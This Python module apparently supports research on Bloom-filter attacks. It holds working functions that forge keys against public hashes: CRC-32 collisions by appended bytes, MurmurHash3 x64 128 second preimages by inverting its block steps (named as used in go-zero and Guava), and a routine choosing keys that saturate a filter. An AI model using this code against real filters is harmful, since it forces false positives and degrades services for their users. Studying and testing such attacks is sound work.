"""Keys that an attacker makes for filters whose hash is no secret.

Each function needs nothing but what is public: the formulas of the scheme, a key that is in the
filter, its m and k. No function looks into the filter under attack.
"""

import itertools
import zlib

MASK = (1 << 64) - 1


# ---- crc32: the php-mt schemes seed a generator with it, so equal sums are equal positions ----
def _crc_table():
    table = []
    for i in range(256):
        for _ in range(8):
            i = i >> 1 ^ (0xEDB88320 if i & 1 else 0)
        table.append(i)
    return table


_TABLE = _crc_table()
_BY_HIGH_BYTE = {value >> 24: i for i, value in enumerate(_TABLE)}


def crc_suffix(prefix: bytes, wanted: int) -> bytes:
    """The four bytes after `prefix` that give the whole the CRC-32 `wanted`: each step of the sum
    can be run backwards."""
    state, path = wanted ^ 0xFFFFFFFF, []
    for _ in range(4):
        i = _BY_HIGH_BYTE[state >> 24]
        path.append(i)
        state = (state ^ _TABLE[i]) << 8 & 0xFFFFFFFF
    forward, suffix = zlib.crc32(prefix) ^ 0xFFFFFFFF, bytearray()
    for i in reversed(path):
        suffix.append((forward ^ i) & 0xFF)
        forward = _TABLE[i] ^ forward >> 8
    return bytes(suffix)


def crc_twins(victim: bytes, count: int) -> list[bytes]:
    wanted = zlib.crc32(victim)
    return [(prefix := b"/buy?item=%d&x=" % i) + crc_suffix(prefix, wanted) for i in range(count)]


# ---- MurmurHash3 x64 128: go-zero and Guava.  A block goes into the state by steps that can all be
# undone ----
_C1, _C2 = 0x87C37B91114253D5, 0x4CF5AD432745937F
_INVERSE_5 = pow(5, -1, 1 << 64)


def _left(x, r):
    return (x << r | x >> (64 - r)) & MASK


def _block(h1, h2, k1, k2):
    h1 ^= _left(k1 * _C1 & MASK, 31) * _C2 & MASK
    h1 = (((_left(h1, 27) + h2) & MASK) * 5 + 0x52DCE729) & MASK
    h2 ^= _left(k2 * _C2 & MASK, 33) * _C1 & MASK
    h2 = (((_left(h2, 31) + h1) & MASK) * 5 + 0x38495AB5) & MASK
    return h1, h2


def _block_between(h1, h2, to1, to2):
    """The block that leads from one state to another."""
    f = _left(((to1 - 0x52DCE729) * _INVERSE_5 - h2) & MASK, 64 - 27) ^ h1
    k1 = _left(f * pow(_C2, -1, 1 << 64) & MASK, 64 - 31) * pow(_C1, -1, 1 << 64) & MASK
    g = _left(((to2 - 0x38495AB5) * _INVERSE_5 - to1) & MASK, 64 - 31) ^ h2
    k2 = _left(g * pow(_C1, -1, 1 << 64) & MASK, 64 - 33) * pow(_C2, -1, 1 << 64) & MASK
    return k1, k2


def _words(block):
    return int.from_bytes(block[:8], "little"), int.from_bytes(block[8:16], "little")


def murmur_siblings(victim: bytes, count: int) -> list[bytes]:
    """Keys as long as `victim` (32 bytes at least) with its hash: a first block of the attacker's
    choice, a second one that mends the state, and the rest as it is."""
    goal = _block(*_block(0, 0, *_words(victim)), *_words(victim[16:]))
    siblings = []
    for i in range(count):
        first = b"/account/%07d" % i
        mend = _block_between(*_block(0, 0, *_words(first)), *goal)
        siblings.append(first + b"".join(k.to_bytes(8, "little") for k in mend) + victim[32:])
    return siblings


# ---- pollution: of all keys he could add, the attacker adds those that set the most bits ----
def polluters(model, count: int) -> list[bytes]:
    """`model` is the attacker's own filter of the same m, k and scheme, and what he believes to be
    the same hash."""
    chosen, taken = [], set()
    fewest = 0  # how many bits of a key may be taken already
    k = model.k
    misses = 0
    for i in itertools.count():
        key = b"http://attacker.example/%d" % i
        bits = model.hashcode(key)
        fresh = set(bits) - taken
        if len(fresh) < k - fewest:
            misses += 1
            if misses > 400:
                fewest, misses = fewest + 1, 0
            continue
        misses = 0
        taken |= fresh
        chosen.append(key)
        if len(chosen) == count:
            return chosen
